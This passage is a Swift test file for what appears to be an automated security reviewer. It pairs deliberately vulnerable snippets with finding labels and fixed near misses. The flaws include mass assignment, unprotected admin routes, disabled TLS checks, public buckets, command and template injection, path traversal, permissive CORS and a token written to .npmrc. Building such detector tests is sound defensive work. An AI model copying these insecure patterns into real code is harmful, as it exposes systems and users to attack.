                + "printf '//registry/:_auth=%s\\n' \"$AUTH\" > .npmrc\n",
            "ci.secrets-exfiltration"),
        Example(
            "scripts/publish.sh",
            "#!/usr/bin/env bash\nset -euxo pipefail\nnpm run build\nset +x\n"
                + "AUTH=\"$(printf '%s:%s' ci \"$NPM_TOKEN\" | base64)\"\n",
            nil),
        Example(
            "app/routers/users.py",
            "class ProfileUpdate(BaseModel):\n    model_config = ConfigDict(extra=\"allow\")\n"
                + "    bio: str | None = None\n\n"
                + "def update(changes, user):\n    for field, value in changes.items():\n"
                + "        setattr(user, field, value)\n",
            "code.mass-assignment"),
        Example(
            "app/routers/users.py",
            "class ProfileUpdate(BaseModel):\n    model_config = ConfigDict(extra=\"forbid\")\n"
                + "    bio: str | None = None\n\n"
                + "def update(changes, user):\n    for field, value in changes.items():\n"
                + "        setattr(user, field, value)\n",
            nil),
        Example(
            "server/routes/admin.js",
            "router.use(requireAuth);\nrouter.post('/users/:id/impersonate', users.impersonate);\n"
                + "router.use(requireRole('admin'));\nrouter.get('/users', users.list);\n",
            "code.auth-removed"),
        Example(
            "server/routes/admin.js",
            "router.post('/login', sessions.create);\nrouter.use(requireAuth);\n"
                + "router.post('/users/:id/reset-mfa', requireRole(['admin', 'support']), users.resetMfa);\n"
                + "router.use(requireRole('admin'));\nrouter.get('/users', users.list);\n",
            nil),
        Example(
            "src/main/kotlin/routes/AdminRoutes.kt",
            "fun Route.adminRoutes() {\n    route(\"/api/admin\") {\n        post(\"/users/{id}/reset-mfa\") {\n"
                + "            call.respond(HttpStatusCode.NoContent)\n        }\n        withRole(Role.ADMIN) {\n"
                + "            get(\"/users\") {\n                call.respond(users.list())\n            }\n"
                + "        }\n"
                + "    }\n}\n",
            "code.auth-removed"),
        Example(
            "src/main/kotlin/routes/AdminRoutes.kt",
            "fun Route.adminRoutes() {\n    route(\"/api/admin\") {\n        withRole(Role.ADMIN) {\n"
                + "            post(\"/users/{id}/reset-mfa\") {\n"
                + "                call.respond(HttpStatusCode.NoContent)\n"
                + "            }\n            get(\"/users\") {\n                call.respond(users.list())\n"
                + "            }\n        }\n    }\n}\n",
            nil),
        Example(
            "Sources/App/routes.swift",
            "func routes(_ app: Application) throws {\n"
                + "    let authenticated = app.grouped(UserToken.authenticator(), User.guardMiddleware())\n"
                + "    let admin = authenticated.grouped(RoleMiddleware(required: .admin))\n"
                + "    try admin.register(collection: AdminUserController())\n"
                + "    let v2 = app.grouped(\"api\", \"v2\")\n"
                + "        .grouped(UserToken.authenticator(), User.guardMiddleware())\n"
                + "    try v2.register(collection: AdminUserController())\n}\n",
            "code.auth-removed"),
        Example(
            "Sources/App/routes.swift",
            "func routes(_ app: Application) throws {\n"
                + "    let authenticated = app.grouped(UserToken.authenticator(), User.guardMiddleware())\n"
                + "    let admin = authenticated.grouped(RoleMiddleware(required: .admin))\n"
                + "    try admin.register(collection: AdminUserController())\n"
                + "    let v2 = app.grouped(\"api\", \"v2\").grouped(RateLimitMiddleware())\n"
                + "        .grouped(UserToken.authenticator(), User.guardMiddleware())\n"
                + "        .grouped(RoleMiddleware(required: .admin))\n"
                + "    try v2.register(collection: AdminUserController())\n}\n",
            nil),
    ])
    func batchFiftyClasses(_ example: Example) { Self.check(example) }

    /// A Traefik router the change adds for a service another router keeps behind an access-control middleware:
    /// without one of its own, a finding; with the same middleware, none.
    @Test func routerBesideTheGuardedOne() {
        let routers = { (extra: String) in
            "http:\n  routers:\n    admin:\n      rule: \"Host(`admin.example.com`)\"\n      service: admin\n"
                + "      middlewares:\n        - oidc-auth\n" + extra
        }
        let added = { (middleware: String) in
            "    admin-internal:\n      rule: \"Host(`admin.example.com`) && PathPrefix(`/internal`)\"\n"
                + "      service: admin\n      middlewares:\n        - " + middleware + "\n"
        }
        Self.expectJudgedRight([
            ReviewCase(
                "traefik", "traefik/routers.yml", before: routers(""), routers(added("secure-headers")), risky: true),
            ReviewCase(
                "traefik", "traefik/routers.yml", before: routers(""), routers(added("oidc-auth")), risky: false),
        ])
    }

    /// Classes mended from blind batch 51 (static-38), each with a near miss that is no finding.
    @Test(arguments: [
        Example(
            "deploy/install-agent.sh",
            "CURL_OPTS=(-fsSL --retry 3)\nif [[ -n \"${HTTPS_PROXY:-}\" ]]; then\n  CURL_OPTS+=(--insecure)\nfi\n"
                + "curl \"${CURL_OPTS[@]}\" -o agent.tgz \"${BASE_URL}/agent.tgz\"\n",
            "code.tls-verify-disabled"),
        Example(
            "deploy/install-agent.sh",
            "CURL_OPTS=(-fsSL)\nif [[ -n \"${HTTPS_PROXY:-}\" ]]; then\n  CURL_OPTS+=(--retry 3)\nfi\n"
                + "curl \"${CURL_OPTS[@]}\" -o agent.tgz \"${BASE_URL}/agent.tgz\"\n",
            nil),
        Example(
            "infra/src/storage.ts",
            "new aws.s3.BucketPublicAccessBlock(\"docs-pab\", {\n  bucket: docs.id,\n  blockPublicPolicy: false,\n"
                + "  restrictPublicBuckets: false,\n});\n",
            "infra.public-bucket"),
        Example(
            "infra/src/storage.ts",
            "new aws.s3.BucketPublicAccessBlock(\"docs-pab\", {\n  bucket: docs.id,\n  blockPublicPolicy: true,\n"
                + "  restrictPublicBuckets: true,\n});\n",
            nil),
        Example(
            ".gitlab-ci.yml",
            "integration:\n  services:\n    - name: postgres:16\n      alias: db\n  variables:\n"
                + "    POSTGRES_HOST_AUTH_METHOD: trust\n  script:\n    - make integration\n",
            nil),
        Example(
            "docker-compose.yml",
            "services:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_HOST_AUTH_METHOD: trust\n",
            "infra.database-without-password"),
        Example(
            "charts/billing/values-prod.yaml",
            "externalSecrets:\n  secrets:\n    billing-db-credentials:\n"
                + "      password: prod/billing/db#password\n",
            nil),
        Example(
            "src/routes/profile.ts",
            "const Patch = z.object({ bio: z.string() }).passthrough();\n"
                + "router.patch('/me', async (req, res) => {\n  const parsed = Patch.safeParse(req.body);\n"
                + "  const { id: _ignored, ...changes } = parsed.data;\n"
                + "  await prisma.user.update({ where: { id: req.user.id }, data: changes });\n});\n",
            "code.mass-assignment"),
        Example(
            "app/routes/previews.rb",
            "post \"/previews/custom\" do\n  draft = params.fetch(\"body\", \"\").to_s\n"
                + "  erb draft, layout: :email_layout\nend\n",
            "code.template-injection"),
        Example(
            "app/routes/previews.rb",
            "post \"/previews/custom\" do\n  draft = params.fetch(\"body\", \"\").to_s\n"
                + "  erb :preview, locals: { draft: draft }\nend\n",
            nil),
        Example(
            "src/Controller/ThumbnailController.php",
            "<?php\nclass ThumbnailController {\n"
                + "    public function __invoke(#[MapQueryParameter] string $size = 'medium') {\n"
                + "        $geometry = self::PRESETS[$size] ?? $size;\n"
                + "        $command = sprintf('convert in.jpg -resize %s out.jpg', $geometry);\n"
                + "        $process = Process::fromShellCommandline($command);\n"
                + "    }\n}\n",
            "code.command-injection"),
        Example(
            "src/Controller/ThumbnailController.php",
            "<?php\nclass ThumbnailController {\n"
                + "    public function __invoke(#[MapQueryParameter] string $size = 'medium') {\n"
                + "        $geometry = self::PRESETS[$size] ?? self::PRESETS['medium'];\n"
                + "        $command = sprintf('convert in.jpg -resize %s out.jpg', $geometry);\n"
                + "        $process = Process::fromShellCommandline($command);\n"
                + "    }\n}\n",
            nil),
        Example(
            "internal/http/export.go",
            "func (h *H) Download(c echo.Context) error {\n\tname := c.QueryParam(\"file\")\n\tif name == \"\" {\n"
                + "\t\tname = \"export.csv\"\n\t}\n\treturn c.File(filepath.Join(h.BaseDir, name))\n}\n",
            "code.path-traversal"),
        Example(
            "reporting/src/main/java/repo/HeadcountRepository.java",
            "public class HeadcountRepository {\n    public enum GroupBy { DEPARTMENT(\"e.department\");\n"
                + "        final String column;\n        GroupBy(String column) { this.column = column; }\n    }\n"
                + "    public List<Row> headcount(long companyId, GroupBy groupBy) {\n"
                + "        var sql = \"SELECT \" + groupBy.column + \" FROM employees GROUP BY \" + groupBy.column;\n"
                + "        return jdbc.query(sql, mapper);\n    }\n}\n",
            nil),
        Example(
            "service/main.py",
            "ORIGIN_REGEX = os.getenv(\"CORS_ORIGIN_REGEX\", r\"https?://.*\")\napp.add_middleware(\n"
                + "    CORSMiddleware,\n    allow_origin_regex=ORIGIN_REGEX,\n    allow_credentials=True,\n)\n",
            "code.cors-reflects-origin"),
        Example(
            "service/main.py",
            "app.add_middleware(\n    CORSMiddleware,\n    allow_origin_regex=r\"https://.*\\.acme\\.dev\",\n"
                + "    allow_credentials=True,\n)\n",
            nil),
        Example(
            "Sources/Networking/PinnedDelegate.swift",
            "final class PinnedDelegate: NSObject, URLSessionDelegate {\n    func urlSession(_ s: URLSession,\n"
                + "        didReceive challenge: URLAuthenticationChallenge,\n"
                + "        completionHandler: @escaping (URLSession.AuthChallengeDisposition, URLCredential?)\n"
                + "            -> Void) {\n"
                + "        guard let trust = challenge.protectionSpace.serverTrust else { return }\n"
                + "        completionHandler(.useCredential, URLCredential(trust: trust))\n    }\n\n"
                + "    private func isPinned(_ trust: SecTrust) -> Bool {\n"
                + "        pinnedKeyHashes.contains(hash(of: trust))\n    }\n}\n",
            "code.tls-verify-disabled"),
        Example(
            "Sources/Networking/PinnedDelegate.swift",
            "final class PinnedDelegate: NSObject, URLSessionDelegate {\n    func urlSession(_ s: URLSession,\n"
                + "        didReceive challenge: URLAuthenticationChallenge,\n"
                + "        completionHandler: @escaping (URLSession.AuthChallengeDisposition, URLCredential?)\n"
                + "            -> Void) {\n"
                + "        guard let trust = challenge.protectionSpace.serverTrust, isPinned(trust) else { return }\n"
                + "        completionHandler(.useCredential, URLCredential(trust: trust))\n    }\n\n"
                + "    private func isPinned(_ trust: SecTrust) -> Bool {\n"
                + "        pinnedKeyHashes.contains(hash(of: trust))\n    }\n}\n",
            nil),
    ])
    func batchFiftyOneClasses(_ example: Example) { Self.check(example) }
}
